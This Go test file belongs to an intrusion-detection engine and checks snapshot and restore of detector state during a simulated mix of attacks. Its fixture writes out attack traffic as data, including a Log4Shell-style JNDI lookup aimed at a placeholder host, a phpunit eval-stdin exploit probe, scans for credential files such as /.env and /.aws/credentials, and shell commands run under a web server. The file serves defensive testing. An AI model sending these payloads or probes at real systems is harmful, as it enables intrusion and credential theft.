package detect

import (
	"bytes"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/attackmap/attackmap/incident"
	"github.com/attackmap/attackmap/sensor/event"
	"github.com/attackmap/attackmap/sensor/logparse"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/")

// mixedAttacks is a quarter hour of every kind of attack the detectors
// know, interleaved by time, so that a cut anywhere leaves some of them
// half counted.
func mixedAttacks() []event.Event {
	var evs []event.Event
	add := func(ev event.Event) { evs = append(evs, ev) }
	sec := func(n int) time.Time { return at(time.Duration(n) * time.Second) }
	users := []string{"root", "admin", "oracle", "test", "ubuntu", "git", "postgres", "pi"}
	// A fast brute force that ends in a login (critical).
	for i := range 9 {
		add(sshFail("185.220.101.34", sec(i), users[i%3], uint16(50000+i), logparse.DetailFailedPassword))
	}
	acc := failedPw("185.220.101.34", sec(12), "admin")
	acc.Kind, acc.Detail = event.KindSSHAccepted, "accepted_password"
	add(acc)
	// A slow one: a failure every 30 s fills the slow bucket.
	for i := range 14 {
		add(sshFail("45.135.232.10", sec(5+30*i), "root", uint16(41000+i), logparse.DetailFailedPassword))
	}
	// Credential stuffing over SSH: distinct invalid users, with pids.
	for i := range 8 {
		ev := sshFail("103.145.13.7", sec(20+7*i), users[i], uint16(42000+i), logparse.DetailInvalidUser)
		ev.PID = uint32(3000 + i)
		add(ev)
		ev.Detail = logparse.DetailFailedPassword
		add(ev)
	}
	// SSH probes: key-exchange failures, and a timeout storm.
	for i := range 5 {
		add(sshFail("80.94.95.11", sec(40+11*i), "", uint16(43000+i), logparse.DetailKexFailure))
	}
	for i := range 6 {
		add(timeout("141.98.10.2", sec(60+20*i), uint32(4000+i), uint16(44000+i)))
	}
	// A port scan over TCP and UDP.
	for i := range 24 {
		if i%3 == 0 {
			add(udpProbe("89.248.165.9", sec(100+2*i), 53000, uint16(100+i)))
		} else {
			add(probe("89.248.165.9", sec(100+2*i), event.KindProbe, uint16(20+i)))
		}
	}
	// A web scanner, a web login brute force, basic-auth failures and an
	// exploit attempt.
	paths := []string{"/.env", "/.git/config", "/wp-admin/", "/phpmyadmin/", "/admin.php", "/backup.zip",
		"/config.php.bak", "/server-status", "/.aws/credentials", "/cgi-bin/test.cgi", "/solr/", "/actuator/env"}
	for i, p := range paths {
		add(httpReq("193.42.33.14", sec(150+3*i), "GET", p, 404, "Mozilla/5.0 zgrab/0.x"))
	}
	for i := range 12 {
		add(webLogin("91.92.243.1", sec(200+4*i), "POST", "/wp-login.php", 200, ""))
	}
	for i := range 8 {
		add(authFailure("91.92.243.2", sec(220+2*i), "/admin/", users[i]))
	}
	add(webLine("194.26.29.3", sec(300), "GET /?x=${jndi:ldap://198.51.100.1/a} HTTP/1.1", 200, "Mozilla/5.0"))
	add(webLine("194.26.29.3", sec(330), "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1", 404, "Mozilla/5.0"))
	// On the host: a shell under the web server, a connection to a C2.
	add(exec("php-fpm8.2", "sh", sec(400), "sh", "-c", "id"))
	add(exec("php-fpm8.2", "sh", sec(470), "sh", "-c", "uname -a"))
	add(connect("45.9.148.10", 443, sec(480)))
	add(connect("45.9.148.10", 8443, sec(520)))
	// Every attack goes on after the cuts, then a quiet end.
	for i := range 6 {
		add(sshFail("185.220.101.34", sec(600+i), "root", uint16(51000+i), logparse.DetailFailedPassword))
		add(probe("89.248.165.9", sec(610+i), event.KindProbe, uint16(3000+i)))
		add(httpReq("193.42.33.14", sec(620+i), "GET", "/wp-config.php.old"+strings.Repeat("~", i), 404, "Mozilla/5.0 zgrab/0.x"))
	}
	slices.SortStableFunc(evs, func(a, b event.Event) int { return a.TS.Compare(b.TS) })
	return evs
}

func snapLists() ThreatLists {
	return prefixLists{"feodo": {netip.MustParsePrefix("45.9.148.0/24")}}
}

// runCut runs evs through an engine, and at cut (when >= 0) flushes,
// snapshots, and goes on in a new engine restored from the snapshot, as a
// restarted sensor does. It returns every incident as a JSON line.
func runCut(t *testing.T, evs []event.Event, cut int) []string {
	t.Helper()
	e := New(every(), WithThreatLists(snapLists()))
	var out []string
	emit := func(ins []incident.Incident) {
		for _, in := range ins {
			b, err := json.Marshal(in)
			if err != nil {
				t.Fatal(err)
			}
			out = append(out, string(b))
		}
	}
	for i, ev := range evs {
		if i == cut {
			emit(e.Flush())
			var buf bytes.Buffer
			if err := e.Snapshot(&buf); err != nil {
				t.Fatalf("Snapshot: %v", err)
			}
			e = New(every(), WithThreatLists(snapLists()))
			if err := e.Restore(buf.Bytes()); err != nil {
				t.Fatalf("Restore at %d: %v", cut, err)
			}
		}
		emit(e.Handle(ev))
	}
	emit(e.Flush())
	return out
}

// TestRestartMidAttackGivesTheSameIncidents cuts the mixed attacks at every
// point, as a restart would, and checks that the incidents are those of an
// uninterrupted run (with the same flush at the cut), which are also the
// golden file testdata/snapshot/want.jsonl.
func TestRestartMidAttackGivesTheSameIncidents(t *testing.T) {
	evs := mixedAttacks()
	golden := filepath.Join("testdata", "snapshot", "want.jsonl")
	whole := runCut(t, evs, -1)
	if *update {
		if err := os.MkdirAll(filepath.Dir(golden), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(golden, []byte(strings.Join(whole, "\n")+"\n"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatalf("%v (run with -update to create it)", err)
	}
	if got := strings.Join(whole, "\n") + "\n"; got != string(want) {
		t.Fatalf("uninterrupted run differs from %s (run with -update after checking the change)", golden)
	}
	sources := map[string]bool{}
	for _, l := range whole {
		var in incident.Incident
		if err := json.Unmarshal([]byte(l), &in); err != nil {
			t.Fatal(err)
		}
		sources[in.Source] = true
	}
	for _, d := range Detectors() {
		if !sources[d] {
			t.Errorf("the mixed attacks raise no %s incident: the cuts do not cover its state", d)
		}
	}
	for cut := 1; cut < len(evs); cut++ {
		ref := runCutFlushOnly(t, evs, cut)
		got := runCut(t, evs, cut)
		if !slices.Equal(got, ref) {
			t.Errorf("cut before event %d (%s %s): %d incidents, want %d; first difference:\n%s", cut,
				evs[cut].Kind, evs[cut].SrcIP, len(got), len(ref), firstDiff(got, ref))
		}
	}
}

// runCutFlushOnly is runCut without the restart: the reference for a cut.
func runCutFlushOnly(t *testing.T, evs []event.Event, cut int) []string {
	t.Helper()
	e := New(every(), WithThreatLists(snapLists()))
	var out []string
	emit := func(ins []incident.Incident) {
		for _, in := range ins {
			b, _ := json.Marshal(in)
			out = append(out, string(b))
		}
	}
	for i, ev := range evs {
		if i == cut {
			emit(e.Flush())
		}
		emit(e.Handle(ev))
	}
	emit(e.Flush())
	return out
}

func firstDiff(got, want []string) string {
	for i := range max(len(got), len(want)) {
		var g, w string
		if i < len(got) {
			g = got[i]
		}
		if i < len(want) {
			w = want[i]
		}
		if g != w {
			return fmt.Sprintf("got  %s\nwant %s", g, w)
		}
	}
	return ""
}

func TestRestoreRefusesBadSnapshots(t *testing.T) {
	e := New(every())
	feed(t, e, mixedAttacks()[:60]...)
	var buf bytes.Buffer
	if err := e.Snapshot(&buf); err != nil {
		t.Fatal(err)
	}
	good := buf.Bytes()
	flip := slices.Clone(good)
	flip[len(flip)/2] ^= 0x40
	other := DefaultConfig()
	other.WebScan.Disabled = true
	for _, tc := range []struct {
		name string
		b    []byte
		cfg  Config
	}{
		{"empty", nil, every()},
		{"truncated", good[:len(good)/2], every()},
		{"a flipped bit", flip, every()},
		{"another version", append([]byte("AMDS\x09"), good[5:]...), every()},
		{"other detectors switched on", good, other},
	} {
		t.Run(tc.name, func(t *testing.T) {
			e := New(tc.cfg)
			err := e.Restore(tc.b)
			if !errors.Is(err, ErrSnapshot) {
				t.Fatalf("Restore = %v, want ErrSnapshot", err)
			}
			if s := e.Stats(); s.Keys != 0 {
				t.Errorf("a refused snapshot left %d keys", s.Keys)
			}
		})
	}
	t.Run("on a used engine", func(t *testing.T) {
		e := New(every())
		feed(t, e, mixedAttacks()[:1]...)
		if err := e.Restore(good); err == nil {
			t.Error("Restore on an engine that handled events succeeded")
		}
	})
}

func TestSnapshotKeepsHashesAcrossEngines(t *testing.T) {
	a := New(every())
	var buf bytes.Buffer
	if err := a.Snapshot(&buf); err != nil {
		t.Fatal(err)
	}
	b := New(every())
	if a.hash("root") == b.hash("root") {
		t.Fatal("two engines share a hash key: the key is not random")
	}
	if err := b.Restore(buf.Bytes()); err != nil {
		t.Fatal(err)
	}
	if a.hash("root") != b.hash("root") {
		t.Error("a restored engine hashes differently from the one snapshotted")
	}
}

func BenchmarkSnapshot(b *testing.B) {
	e := New(DefaultConfig())
	for i := range 10_000 {
		ip := netip.AddrFrom4([4]byte{45, byte(i >> 16), byte(i >> 8), byte(i)})
		e.Handle(failedPw(ip.String(), at(time.Duration(i)*time.Millisecond), "root"))
	}
	var buf bytes.Buffer
	for b.Loop() {
		buf.Reset()
		if err := e.Snapshot(&buf); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(buf.Len()), "bytes")
}

// FuzzRestore feeds arbitrary bytes to Restore (the snapshot reader): it
// must refuse or accept without panicking, and an accepted snapshot must
// leave an engine that handles events and snapshots again.
func FuzzRestore(f *testing.F) {
	e := New(every(), WithThreatLists(snapLists()))
	for _, ev := range mixedAttacks()[:80] {
		e.Handle(ev)
	}
	var buf bytes.Buffer
	if err := e.Snapshot(&buf); err != nil {
		f.Fatal(err)
	}
	f.Add(buf.Bytes())
	f.Add([]byte("AMDS\x01"))
	f.Fuzz(func(t *testing.T, b []byte) {
		e := New(every(), WithThreatLists(snapLists()))
		if err := e.Restore(b); err != nil {
			return
		}
		for _, ev := range mixedAttacks()[80:] {
			e.Handle(ev)
		}
		e.Flush()
		if err := e.Snapshot(io.Discard); err != nil {
			t.Fatal(err)
		}
	})
}
